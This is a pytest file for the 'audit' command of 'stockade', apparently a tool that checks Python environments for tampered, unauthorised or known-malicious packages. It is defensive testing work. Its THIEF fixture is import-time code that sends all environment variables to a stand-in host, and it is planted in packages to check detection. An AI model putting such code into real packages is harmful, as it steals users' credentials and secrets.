"""`stockade audit`: environments by hand, accounted for, authorised, judged, in each format."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import marshal
import py_compile
import sys
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

import jsonschema  # type: ignore[import-untyped]  # its stubs would be one more dependency
import pytest

from stockade.acquire.environments.rebuilt import rebuilt
from stockade.acquire.environments.record import Row
from stockade.act.report.json import schema_text
from stockade.cli.audit import FORMATS
from stockade.cli.published import record_of
from stockade.model.artifact import Artifact
from stockade.model.environment import Installed
from tests.acquire.environments.making import Made, conda
from tests.cli.conftest import Ran, Run
from tests.remember.test_feeds import put
from tests.support import advisories
from tests.support.archives import core_metadata, record_hash, wheel
from tests.support.index import TwinIndex

#: Inert: its host is none. What it would do is what a thief's package does when it is imported.
THIEF = """\
import os
import urllib.request

try:
    urllib.request.urlopen("https://collect.invalid/", data=str(dict(os.environ)).encode())
except Exception:
    pass
"""


def honest(root: Path = Path(".venv")) -> Made:
    made = Made(root.absolute())
    made.install("alpha", files={"alpha/__init__.py": "ONE = 1\n"})
    made.install("beta", files={"beta.py": "TWO = 2\n"})
    return made


def findings(out: str) -> list[tuple[str, str]]:
    (environment,) = json.loads(out)["environments"]
    return [(one["kind"], one["project"]) for one in environment["findings"]]


def test_an_honest_environment_is_in_order(run: Run) -> None:
    honest()
    ran = run("audit")
    assert ran.code == 0, ran.out + ran.err
    assert "1 environment: 1 allowed." in ran.out
    assert "analyser behind" in ran.out


def test_stolen_environments_are_told_by_their_code(run: Run) -> None:
    honest().install("gamma", files={"gamma/__init__.py": THIEF})
    ran = run("audit")
    assert ran.code == 10, ran.out + ran.err
    assert "gamma 1.0" in ran.out and "gamma/__init__.py" in ran.out
    assert "when it is imported" in ran.out
    assert run("audit", "--no-code").code == 0


def test_what_was_judged_is_not_packed_again_until_it_changes(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = honest()
    first = json.loads(run("audit", "--format", "json").out)
    packed: list[str] = []

    def noting(
        one: Installed, files: Iterable[Row], work: Path, note: Callable[[str], None]
    ) -> Artifact | None:
        packed.append(one.name)
        return rebuilt(one, files, work, note)

    monkeypatch.setattr("stockade.cli.audited.rebuilt", noting)
    again = json.loads(run("audit", "--format", "json").out)
    assert packed == []
    assert again["environments"][0]["artifacts"] == first["environments"][0]["artifacts"]
    # Other bytes under an old promise are packed, judged as they are, and not remembered under the promise.
    made.write("beta.py", THIEF)
    ran = run("audit", "--format", "json")
    assert packed == ["beta"]
    assert ("changed-file", "beta") in findings(ran.out)
    worst = {one["project"]: one["action"] for one in json.loads(ran.out)["environments"][0]["artifacts"]}
    assert worst == {"alpha": "allow", "beta": "block"}
    made.write("beta.py", "TWO = 2\n")
    assert run("audit").code == 0


@pytest.mark.parametrize("odd", ["md5=", "nothing="])
def test_a_promise_that_proves_nothing_does_not_keep_code_from_being_judged(run: Run, odd: str) -> None:
    """Else a release would be judged once, harmless, and be another one from then on."""
    made = honest()
    plain = b"TWO = 2\n"
    made.write("beta.py", plain)
    record = made.site / "beta-1.0.dist-info/RECORD"
    weak = base64.urlsafe_b64encode(hashlib.md5(plain, usedforsecurity=False).digest()).decode().rstrip("=")
    rows = [
        f"beta.py,{odd}{weak}," if row.startswith("beta.py,") else row for row in record.read_text().split()
    ]
    record.write_text("\n".join(rows) + "\n")
    assert judged(run("audit", "--format", "json")) == {"alpha": "allow", "beta": "allow"}
    made.write("beta.py", THIEF)
    assert judged(run("audit", "--format", "json"))["beta"] == "block"


def test_code_that_a_packager_brought_is_judged_when_it_changes(run: Run) -> None:
    """Its RECORD is not held against its files, and whoever can write conda's records writes them anew."""
    root, info = Path("conda").absolute(), "lib/python3.12/site-packages/demo-1.0.dist-info"
    files: dict[str, bytes | str] = {
        "lib/python3.12/site-packages/demo.py": "ONE = 1\n",
        f"{info}/METADATA": core_metadata("demo", "1.0"),
        f"{info}/RECORD": f"demo.py,{record_hash(b'ONE = 1')},\ndemo-1.0.dist-info/METADATA,{record_hash(b'x')},\n",
    }
    conda(root, "demo", files)
    assert judged(run("audit", "conda", "--format", "json")) == {"demo": "allow"}
    conda(root, "demo", files | {"lib/python3.12/site-packages/demo.py": THIEF})
    assert judged(run("audit", "conda", "--format", "json")) == {"demo": "block"}


def judged(ran: Ran) -> dict[str, str]:
    """What became of the code of each."""
    (environment,) = json.loads(ran.out)["environments"]
    return {one["project"]: one["action"] for one in environment["artifacts"]}


def test_compiled_code_is_held_against_its_source(run: Run) -> None:
    """Under a header that agrees with the source, as whoever writes __pycache__ would make it."""
    made = honest()
    source = made.write("alpha/__init__.py", "ONE = 1\n")
    good = made.site / "alpha/__pycache__/__init__.cpython-311.pyc"
    py_compile.compile(str(source), cfile=str(good))
    assert run("audit", "--compiled").code == 0
    other = compile("import os\nONE = 1\nos.system('true')\n", str(source), "exec")
    good.write_bytes(good.read_bytes()[:16] + marshal.dumps(other))
    assert run("audit").code == 0, "the header alone tells nothing"
    ran = run("audit", "--compiled", "--format", "json")
    (environment,) = json.loads(ran.out)["environments"]
    (finding,) = [one for one in environment["findings"] if one["action"] == "block"]
    assert ran.code == 10
    assert (finding["kind"], finding["project"], finding["path"]) == ("compiled-differs", "alpha", str(good))


def test_a_lock_says_what_may_be_here(run: Run) -> None:
    honest()
    Path("requirements.txt").write_text(f"alpha==1.0 --hash=sha256:{'0' * 64}\n")
    ran = run("audit", "--no-code", "--against", "requirements.txt", "--format", "json")
    assert ran.code == 10
    assert findings(ran.out) == [("unauthorised", "beta")]
    Path("uv.lock").write_text(
        'version = 1\nrequires-python = ">=3.11"\n\n'
        '[[package]]\nname = "beta"\nversion = "1.0"\nsource = { registry = "https://index.invalid/simple" }\n'
        f'wheels = [{{ url = "https://index.invalid/beta-1.0-py3-none-any.whl", hash = "sha256:{"0" * 64}" }}]\n'
    )
    both = ("--against", "requirements.txt", "--against", "uv.lock")
    assert run("audit", "--no-code", *both).code == 0


def test_the_project_of_a_lock_is_where_it_can_be_installed_from(run: Run) -> None:
    """A lock may lie in a folder of the project; its own editable install goes without saying all the same."""
    made = honest()
    here = f'{{"url": "{Path.cwd().as_uri()}", "dir_info": {{"editable": true}}}}'
    made.install("mine", marks={"direct_url.json": here})
    Path("requirements").mkdir()
    Path("requirements/dev.lock").write_text("alpha==1.0\nbeta==1.0\n")
    ran = run("audit", "--no-code", "--against", "requirements/dev.lock", "--format", "json")
    assert (ran.code, findings(ran.out)) == (10, [("unauthorised", "mine")])
    Path("pyproject.toml").write_text("[project]\nname = 'mine'\n")
    ran = run("audit", "--no-code", "--against", "requirements/dev.lock", "--format", "json")
    assert (ran.code, findings(ran.out)) == (0, [])


def test_requirements_without_pins_let_in_what_they_bring(run: Run) -> None:
    made = honest()
    text = b"Metadata-Version: 2.1\nName: gamma\nVersion: 1.0\nRequires-Dist: beta\n"
    made.install("gamma", metadata=text)
    Path("requirements.txt").write_text("alpha\ngamma>=0.9\nabsent\n")
    ran = run("audit", "--no-code", "--against", "requirements.txt", "--format", "json")
    assert (ran.code, findings(ran.out)) == (12, [("missing", "absent")])


def test_policy_says_what_findings_are_worth(run: Run) -> None:
    honest().write("stray.py", "ONE = 1\n")
    assert run("audit", "--no-code").code == 0
    Path("stockade.toml").write_text('[audit]\norphan-file = "block"\n')
    assert run("audit", "--no-code").code == 10
    Path("stockade.toml").write_text('mode = "monitor"\n[audit]\norphan-file = "block"\n')
    ran = run("audit", "--no-code")
    assert ran.code == 0 and "Monitor mode" in ran.out


def test_planted_files_are_named(run: Run) -> None:
    made = honest()
    made.write("zz.pth", "import os\n")
    made.write("beta.py", "TWO = 3\n")
    ran = run("audit", "--no-code", "--format", "json")
    assert ran.code == 10
    assert {("orphan-startup", ""), ("changed-file", "beta")} <= set(findings(ran.out))


def test_what_a_person_accepted_is_what_later_audits_hold_it_against(run: Run) -> None:
    made = honest()
    ran = run("audit", "accept", "--because", "set up by hand")
    assert (ran.code, ran.err) == (0, "")
    assert "2 distributions accepted" in ran.out
    assert run("audit", "--no-code").code == 0
    made.install("gamma")
    ran = run("audit", "--no-code", "--format", "json")
    assert (ran.code, findings(ran.out)) == (10, [("unauthorised", "gamma")])
    assert "the baseline of" in json.loads(ran.out)["environments"][0]["authorities"][0]
    assert run("audit", "--no-code", "--no-ledger").code == 0
    run("audit", "accept")
    assert run("audit", "--no-code").code == 0


def test_the_whole_campaign_is_found_through_the_feed(run: Run, tmp_path: Path) -> None:
    """All twenty projects of March 2025, by name and version alone; and a withdrawn record accuses nobody."""
    made = Made(Path(".venv").absolute())
    rows = list(advisories.incident())
    for one in rows:
        made.install(one["project"], one["versions"].split()[-1])
    made.install("weak", "1.0")
    made.install("cleared", "1.0")
    put(
        tmp_path / "data" / "feeds",
        *advisories.incident_records(),
        advisories.record("CVE-2030-1", "weak", events=[("introduced", "0"), ("fixed", "1.5")]),
        advisories.record("MAL-2030-9", "cleared", "1.0", withdrawn="2026-01-01T00:00:00Z"),
    )
    ran = run("audit", "--no-code", "--format", "json")
    assert ran.code == 10
    report = json.loads(ran.out)
    found = report["environments"][0]["findings"]
    malicious = {one["project"]: one["advisory"] for one in found if one["kind"] == "malicious"}
    assert malicious == {one["project"]: one["osv_id"] for one in rows}
    assert len(malicious) == 20
    (weak,) = [one for one in found if one["kind"] == "vulnerable"]
    assert (weak["project"], weak["action"], weak["fix"]) == ("weak", "ask", "upgrade to 1.5")
    assert report["advisories"].startswith("osv: 22, 21 of malicious releases, ")
    assert "days old" in report["advisories"]
    text = run("audit", "--no-code").out
    assert "MAL-2025-2929" in text and "known to be malicious" in text


def test_what_changed_since_the_last_audit_is_told(run: Run) -> None:
    made = honest()
    assert "seen for the first time" in run("audit", "--no-code", "--since", "last").out
    assert "nothing came, went or changed" in run("audit", "--no-code", "--since", "last").out
    made.install("gamma")
    ran = run("audit", "--no-code", "--since", "last", "--format", "json")
    (environment,) = json.loads(ran.out)["environments"]
    assert environment["changes"]["added"] == [{"project": "gamma", "version": "1.0"}]
    assert environment["changes"]["since"] is not None
    made.install("delta")
    assert "+ delta 1.0" in run("audit", "--no-code", "--since", "last").out


def test_without_the_ledger_s_libraries_an_audit_works_and_says_so(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest()
    monkeypatch.setitem(sys.modules, "stockade.remember.durable.store", None)
    ran = run("audit", "--no-code")
    assert ran.code == 0 and "nothing was written down" in ran.out
    ran = run("audit", "accept")
    assert ran.code == 1 and "pip install 'stockade[gate]'" in ran.err


@pytest.mark.parametrize("form", FORMATS)
def test_every_format_is_written_where_it_is_asked_for(run: Run, form: str) -> None:
    honest().write("stray.py", "ONE = 1\n")
    ran = run("audit", "--no-code", "--format", form, "--output", "report")
    assert (ran.code, ran.out) == (0, "")
    text = Path("report").read_text()
    if form == "json":
        jsonschema.validate(json.loads(text), json.loads(schema_text("stockade-audit-1")))
    assert str(Path(".venv").absolute()).rpartition("/")[2] in text


def test_bills_of_materials_are_taken_in(run: Run) -> None:
    honest().install("gamma", marks={"sboms/parts.cdx.json": "{}"})
    value = json.loads(run("audit", "--no-code", "--format", "cyclonedx").out)
    by_name = {one["name"]: one for one in value["components"][0]["components"]}
    (reference,) = by_name["gamma"]["externalReferences"]
    assert reference["url"].endswith("/gamma-1.0.dist-info/sboms/parts.cdx.json")
    assert "externalReferences" not in by_name["alpha"]


def test_every_environment_below_a_root(run: Run, tmp_path: Path) -> None:
    honest(Path("one/.venv"))
    made = honest(tmp_path / "home/two/env")
    made.write("zz.pth", "import os\n")
    ran = run("audit", "--all", "--no-code", "--root", "one", "--root", tmp_path / "home", "--format", "json")
    roots = {one["root"]: one["action"] for one in json.loads(ran.out)["environments"]}
    assert roots[str(Path("one/.venv").absolute())] == "allow"
    assert roots[str(tmp_path / "home/two/env")] == "block"
    assert ran.code == 10


def test_an_environment_or_a_folder_of_packages_by_its_path(run: Run) -> None:
    made = honest(Path("somewhere"))
    assert run("audit", "--no-code", "somewhere").code == 0
    ran = run("audit", "--no-code", made.site, "--format", "json")
    assert [one["project"] for one in json.loads(ran.out)["environments"][0]["installed"]] == [
        "alpha",
        "beta",
    ]


def unpacked(made: Made, data: bytes) -> None:
    """A wheel as an installer would leave it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            made.write(name, archive.read(name))


@pytest.mark.parametrize(
    "method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA]
)
def test_a_damaged_wheel_has_no_record(tmp_path: Path, method: int) -> None:
    """However it is packed; the rest of the audit goes on."""
    path, name = tmp_path / "x.whl", "x-1.dist-info/RECORD"
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr(name, b"x.py,,\n" * 50)
    assert record_of(str(path)) == b"x.py,,\n" * 50
    raw = bytearray(path.read_bytes())
    raw[39 + len(name) : 45 + len(name)] = b"\xff" * 6  # past what LZMA says of itself
    path.write_bytes(raw)
    assert record_of(str(path)) is None


def test_files_are_held_against_what_the_index_published(run: Run, index: TwinIndex) -> None:
    made = Made(Path(".venv").absolute())
    unpacked(made, wheel("alpha", "1.0", {"alpha.py": "ONE = 1\n"}, requires=["beta>=1"]))
    unpacked(made, wheel("beta", "1.5", {"beta.py": "TWO = 2\n"}))
    verify = ("audit", "--no-code", "--verify-index", "--index-url", index.url, "--format", "json")
    ran = run(*verify)
    assert (ran.code, findings(ran.out)) == (0, []), ran.out + ran.err
    # Whoever changes a file may change RECORD with it; what was published stays.
    made.write("beta.py", "TWO = 3\n")
    record = made.site / "beta-1.5.dist-info/RECORD"
    rows = [row for row in record.read_text().splitlines() if not row.startswith("beta.py,")]
    record.write_text("\n".join([*rows, "beta.py,,"]) + "\n")
    made.install("gamma", "9.9")
    made.install("unheard-of")
    made.install("reqeusts", "2.32.1")
    made.install(
        "elsewhere", marks={"direct_url.json": '{"url": "https://demo.invalid/e.whl", "archive_info": {}}'}
    )
    ran = run(*verify)
    assert ran.code == 10
    assert sorted(findings(ran.out)) == [
        ("not-as-published", "beta"),
        ("not-as-published", "gamma"),
        ("not-as-published", "unheard-of"),
    ]
    notes = " ".join(json.loads(ran.out)["notes"])
    assert "reqeusts 2.32.1 was built here" in notes
    assert "elsewhere 1.0 came from https://demo.invalid/e.whl" in notes
    assert run("audit", "--no-code").code == 0


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        ((), 3, "there is no environment here"),
        (("nowhere",), 3, "there is no such file or folder"),
        (("file",), 3, "is no environment"),
        (("--all", "."), 2, "give either"),
        ((".", ".."), 2, "one path too many"),
        (("--compiled",), 2, "--no-code judges none"),
        (("--verify-index", "--offline"), 2, "--offline forbids it"),
        (("--because", "x"), 2, "--because goes with accept"),
        (("--no-ledger", "--since", "last", "file"), 1, "is not in use"),
        (("--root", "."), 2, "give --all too"),
        (("--against", "absent.lock"), 3, "absent.lock"),
        (("--against", "file"), 2, "no lock file that we know"),
    ],
)
def test_bad_input_is_told(run: Run, words: tuple[str, ...], code: int, said: str) -> None:
    Path("file").write_text("nothing in particular")
    ran = run("audit", "--no-code", *words)
    assert ran.code == code, ran.err
    assert said in ran.err
